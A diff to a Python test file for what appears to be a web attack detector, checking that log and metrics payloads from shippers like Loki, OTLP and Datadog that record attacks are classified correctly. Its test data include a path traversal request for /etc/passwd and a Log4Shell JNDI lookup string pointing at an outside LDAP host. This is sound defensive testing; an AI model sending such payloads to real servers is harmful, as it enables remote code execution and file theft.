@@ -546,11 +546,12 @@ def test_a_workloads_program_is_what_its_platform_runs(engine: Engine) -> None:
 
 
 def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
-    """What a log shipper sends its store (OpenTelemetry's log records, Loki's push,
-    Elasticsearch's bulk documents, Splunk's HEC events, Datadog's and GELF's records)
-    records what happened, attacks on other servers among them: an access log's request,
-    a CRON line, a rejected statement, a file's path. XSS and Log4Shell count there, and
-    the same lines count in any other request and in the shipper's other fields."""
+    """What a log shipper sends its store (OpenTelemetry's log records and metrics' data
+    points, Loki's push, Elasticsearch's bulk documents of logs, Splunk's HEC events,
+    Datadog's and GELF's records) records what happened, attacks on other servers among
+    them: an access log's request, a CRON line, a rejected statement, a file's path. XSS
+    and Log4Shell count there, and the same lines count in any other request and in the
+    shipper's other fields."""
     lines = [
         '203.0.113.5 - - [05/Dec/2026:10:00:02 +0000] "GET /../../etc/passwd HTTP/1.1" 400 0',
         "Dec  5 10:00:01 web-1 CRON[12345]: (root) CMD (/usr/local/bin/backup.sh > /dev/null)",
@@ -586,6 +587,11 @@ def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
         assert types({"version": "1.1", "host": "web-1", "short_message": line}, "/gelf") == set()
         assert types({"note": line}) != set(), line
     assert types(otlp(XSS), "/v1/logs") == {"xss"}
+    point = {"attributes": [attribute, {"key": "http.target", "value": {"stringValue": lines[2]}}]}
+    histogram = {"name": "http.server.duration", "histogram": {"dataPoints": [point]}}
+    metrics = {"resourceMetrics": [{"scopeMetrics": [{"metrics": [histogram]}]}]}
+    assert types(metrics, "/v1/metrics") == set()
+    assert types({"metrics": [histogram]}, "/v1/metrics") >= {"sqli"}  # no batch
     assert types(loki("user=${jndi:ldap://198.51.100.7/a}"), "/loki/api/v1/push") == {"rce"}
     assert types(loki(lines[2]), "/api/push") >= {"sqli", "ptrav"}  # no Loki's path
     assert types([{"message": lines[2]}], "/api/v2/logs") == {"sqli"}  # no Datadog's record
